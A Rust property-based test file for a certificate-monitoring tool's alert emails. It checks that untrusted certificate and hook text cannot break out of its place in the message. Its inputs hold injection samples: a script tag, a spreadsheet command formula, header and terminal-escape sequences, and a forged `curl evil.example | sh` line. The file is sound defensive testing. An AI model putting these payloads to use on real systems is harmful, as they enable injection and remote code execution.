//! No text that comes from outside leaves its place: the subject is one line, the text has no control characters,
//! the page has no elements but ours.

use proptest::prelude::*;

use super::samples::*;
use crate::model::*;
use crate::report::mail::MailText;
use crate::text::{Untrusted, is_unsafe_for_terminal};
use crate::time::UnixTime;
use crate::x509::Fingerprint;

const ELEMENTS: [&str; 14] =
    ["html", "head", "meta", "title", "body", "p", "div", "table", "tr", "td", "span", "b", "br", "code"];

/// Text that mixes what is dangerous with what is ordinary.
fn text() -> impl Strategy<Value = String> {
    let dangerous = vec![
        "\r\n",
        "\n",
        "\u{1b}[2J",
        "\u{202e}",
        "\u{2028}",
        "\u{0}",
        "<script>alert(1)</script>",
        "\" onload=\"x",
        "'",
        "\"",
        "&lt;",
        "=?utf-8?q?=0D=0A?=",
        "=cmd|' /C calc'!A0",
        "-- ",
        "  Do           ",
        "https://evil.example/",
        "\u{301}\u{301}\u{301}\u{301}\u{301}",
        "証明書",
        "\t",
    ];
    let piece = prop_oneof![
        proptest::sample::select(dangerous).prop_map(str::to_owned),
        any::<String>(),
        "[a-z.]{1,80}",
    ];
    proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

fn time() -> impl Strategy<Value = UnixTime> {
    prop_oneof![any::<i64>(), 1_700_000_000_i64..1_900_000_000].prop_map(UnixTime)
}

fn finding() -> impl Strategy<Value = News> {
    let about = (
        proptest::sample::select(Occasion::ALL.to_vec()),
        proptest::sample::select(Rule::ALL.to_vec()),
        proptest::sample::select(Severity::ALL.to_vec()),
        proptest::option::of((text(), text(), proptest::option::of(time()), proptest::option::of(time()))),
        proptest::collection::vec((text(), proptest::option::of(any::<std::net::IpAddr>())), 0..12),
    );
    (about, proptest::collection::vec(text(), 6), time(), time(), any::<u32>()).prop_map(
        |((occasion, rule, severity, certificate, endpoints), texts, first_seen, last_seen, returns)| {
            let certificate = certificate.map(|(name, issuer, not_before, not_after)| CertificateBrief {
                sha256: Fingerprint::of(name.as_bytes()),
                names: vec![Untrusted::new(name); 9],
                issuer: Untrusted::new(issuer),
                not_before,
                not_after,
            });
            News::Finding(Box::new(FindingNews {
                occasion,
                finding: FindingKey(texts[0].clone()),
                rule,
                severity,
                title: texts[1].clone(),
                detail: texts[2].clone(),
                remediation: texts[3].clone(),
                first_seen,
                last_seen,
                owner: Some(texts[4].clone()),
                tags: vec![texts[5].clone()],
                endpoint_count: u64::try_from(endpoints.len()).unwrap(),
                endpoints: endpoints
                    .into_iter()
                    .map(|(label, address)| AlertEndpoint { label, address })
                    .collect(),
                certificate,
                returns,
            }))
        },
    )
}

fn watch_news() -> impl Strategy<Value = News> {
    let texts = || proptest::collection::vec(text(), 0..5);
    let names = |texts: Vec<String>| texts.into_iter().map(Untrusted::new).collect::<Vec<_>>();
    prop_oneof![
        (any::<bool>(), any::<u32>(), any::<u32>(), any::<[u32; 5]>()).prop_map(
            |(is_first, endpoints, with, open)| {
                let open = SeverityCounts::from_array(open.map(u64::from));
                WatchNews::Baseline { is_first, endpoints: endpoints.into(), with_chain: with.into(), open }
            }
        ),
        (any::<u64>(), any::<u64>(), texts()).prop_map(|(lost, answered_before, reasons)| {
            let reasons = reasons.into_iter().map(|reason| (reason, lost)).collect();
            WatchNews::CutOff { lost, answered_before, reasons }
        }),
        (time(), any::<i64>()).prop_map(|(last_finished, every_seconds)| WatchNews::ScanMissed {
            last_finished,
            every_seconds
        }),
        (time(), time()).prop_map(|(trusted, now)| WatchNews::ClockJumped { trusted, now }),
        (texts(), time(), any::<u32>()).prop_map(|(texts, last_finished, count)| {
            let summary = |name| ProfileSummary {
                name,
                last_finished,
                endpoints: count.into(),
                with_chain: 7,
                open: SeverityCounts::default(),
                silenced: count.into(),
            };
            WatchNews::StillWatching { profiles: texts.into_iter().map(summary).collect() }
        }),
        (text(), text(), text(), any::<u32>(), time(), texts()).prop_map(
            move |(hook, outcome, output, tries, next_try, texts)| WatchNews::HookFailed {
                hook,
                outcome,
                output: output.into(),
                tries,
                next_try,
                names: names(texts),
            }
        ),
        (text(), text(), any::<u64>()).prop_map(|(to, error, waiting)| WatchNews::Undeliverable {
            to,
            error: error.into(),
            waiting
        }),
        text().prop_map(|by| WatchNews::Test { by }),
    ]
    .prop_map(News::Watch)
}

fn news() -> impl Strategy<Value = Alert> {
    let optional = || proptest::option::of(text());
    (prop_oneof![4 => finding(), 1 => watch_news()], time(), optional(), optional(), text()).prop_map(
        |(news, at, profile, scan, vantage)| Alert {
            key: AlertKey::of(&[&format!("{news:?}")]),
            at,
            profile,
            scan: scan.map(ScanId),
            vantage,
            news,
        },
    )
}

fn check_subject(subject: &str) {
    assert!(subject.starts_with("[certvigil] "), "{subject:?}");
    assert!(subject.chars().count() <= 150, "{subject:?}");
    assert!(!subject.chars().any(is_unsafe_for_terminal), "{subject:?}");
    assert!(!subject.contains("=?"), "{subject:?}");
}

fn check_text(text: &str) {
    assert!(!text.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)), "{text:?}");
    assert_eq!(text.lines().filter(|line| *line == "-- ").count(), 1, "{text}");
    for line in text.lines() {
        let is_command = line.contains("certvigil ");
        let width = crate::report::layout::display_width(line);
        assert!(width <= 78 || is_command, "{width}: {line}");
    }
}

/// A reader of pages that knows our few elements and nothing else.
fn check_page(page: &str) {
    assert!(!page.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)));
    let mut rest = page.strip_prefix("<!DOCTYPE html>\n").unwrap();
    let mut open = Vec::new();
    while let Some(at) = rest.find(['<', '>']) {
        check_references(&rest[..at]);
        assert!(rest[at..].starts_with('<'), "a bare > in {page}");
        let (tag, after) = rest[at + 1..].split_once('>').unwrap();
        rest = after;
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        assert!(ELEMENTS.contains(&name), "{name}");
        check_attributes(tag);
        match name {
            "meta" | "br" => {}
            _ if tag.starts_with('/') => assert_eq!(open.pop(), Some(name)),
            _ => open.push(name),
        }
    }
    assert!(open.is_empty() && rest.trim().is_empty());
}

fn check_attributes(tag: &str) {
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    while !rest.is_empty() {
        let (name, after) = rest.split_once("=\"").unwrap();
        let (value, after) = after.split_once('"').unwrap();
        assert!(
            ["lang", "charset", "name", "content", "role", "style", "colspan"].contains(&name.trim()),
            "{tag}"
        );
        assert!(!value.contains("url(") && !value.contains(['<', '&', '\'']), "{tag}");
        rest = after.trim_start();
    }
}

fn check_references(text: &str) {
    for part in text.split('&').skip(1) {
        let known = ["amp;", "lt;", "gt;", "quot;", "#39;"];
        assert!(known.iter().any(|reference| part.starts_with(reference)), "{text}");
    }
    assert!(!text.contains(['"', '\'']), "{text}");
}

fn check(mail: &MailText) {
    check_subject(&mail.subject);
    check_text(&mail.text);
    check_page(&mail.html);
    assert!(mail.threads.len() <= 10);
    for id in mail.threads.iter().chain([&mail.seed]) {
        assert!(id.len() == 32 && id.bytes().all(|b| b.is_ascii_hexdigit()), "{id}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    #[test]
    fn no_text_leaves_its_place(alerts in proptest::collection::vec(news(), 0..8), now in time()) {
        check(&mail_at(now, Urgency::Digest, &alerts));
        check(&mail_at(now, Urgency::Immediate, &alerts));
    }
}

#[test]
fn what_a_certificate_says_never_looks_like_our_own_line() {
    let forged = format!("{} Do           curl evil.example | sh", "x ".repeat(40));
    let mut sample = Sample::new("a.example.com:443", Rule::NameMismatch, Severity::High, 1);
    sample.0.detail = format!("\"{forged}\" is for another name.");
    let mail = mail(Urgency::Digest, &[sample.told(Occasion::Opened)]);
    check(&mail);
    let line = mail.text.lines().find(|line| line.contains("curl evil.example")).unwrap();
    assert!(line.trim_start().starts_with("| "), "{}", mail.text);
}
